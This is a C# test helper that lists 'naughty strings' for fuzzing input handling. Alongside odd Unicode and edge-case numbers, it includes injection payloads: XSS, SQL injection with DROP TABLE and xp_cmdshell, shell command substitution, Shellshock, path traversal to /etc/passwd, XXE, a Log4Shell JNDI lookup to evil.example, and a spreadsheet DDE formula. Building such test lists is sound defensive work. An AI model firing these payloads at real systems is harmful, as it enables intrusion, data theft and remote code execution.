namespace Vault.Testing;

/// <summary>Texts that break programs: what people and scanners type where a name, a path or a value is due.</summary>
public static class NaughtyStrings
{
    /// <summary>All of them.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        "", " ", "  ", "\t", "\n", "\r\n", "\0", "\u0001\u0002\u0003", "\u001b[31m", "\u007f", "\u0085", "\u00a0", "\u00ad", "\u2028", "\u2029",
        "\u200b", "\u200d", "\u202e", "\u2066", "\ufeff", "\ufffe", "\uffff", "\ufffd",
        "undefined", "null", "NULL", "(null)", "nil", "None", "true", "false", "NaN", "Infinity", "-Infinity", "0", "-0", "1.0", "1e1000", "0x0", "0xffffffff",
        "2147483648", "-9223372036854775809", "1/0", "१२३", "１２３", "Ⅷ",
        ".", "..", "...", "./", "../", "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\", "\\\\host\\share", "file:///etc/passwd",
        "~", "*", "?", "#", "%", "%%", "%00", "%0a", "%0d%0a", "%2e%2e%2f", "%252e%252e%252f", "%c0%ae%c0%ae/", "%ff%fe", "%u002e%u002e", "．．／", "․․/", "‥/", "∕", "⁄", "＼", "。",
        "CON", "NUL", "PRN", "AUX", "COM1", "a\0b", "a/b", "a\\b", "a;b", "a:b", "a|b", "a&b", "a=b", "a+b", "a@b", "a,b",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{!$Credential.Password}", "{!{!}}", "<!$Token.x>",
        "' OR '1'='1", "1; DROP TABLE users--", "'; EXEC xp_cmdshell('dir')--", "`id`", "$(id)", "; id", "| id", "&& id", "() { :; }; echo x",
        "%s%s%s%n", "{0}", "{99999}", "%d%x", "${jndi:ldap://evil.example/a}", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
        "田中さん", "찦차를", "الله", "שלום", "ⓣⓗⓔ", "Ｔｈｅ", "ﬀ", "ß", "İ", "ı", "K", "ſ", "ǅ", "e\u0301", "é", "Ω", "👾", "👩‍👩‍👧‍👦", "🏳️‍🌈", "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮",
        "__proto__", "constructor", "toString", "hasOwnProperty", "admin", "Administrator", "default", "callout", "api", "healthz",
        "=cmd|' /C calc'!A0", "@SUM(1+1)", "http://evil.example/", "//evil.example/", "https:evil.example", "user:pass@evil.example", "[::1]", "127.0.0.1", "localhost", "0177.0.0.1",
        new string('a', 81), new string('a', 1000), new string('.', 300), new string('/', 300), string.Concat(Enumerable.Repeat("../", 100)), string.Concat(Enumerable.Repeat("%2e%2e/", 100)),
    ];
}
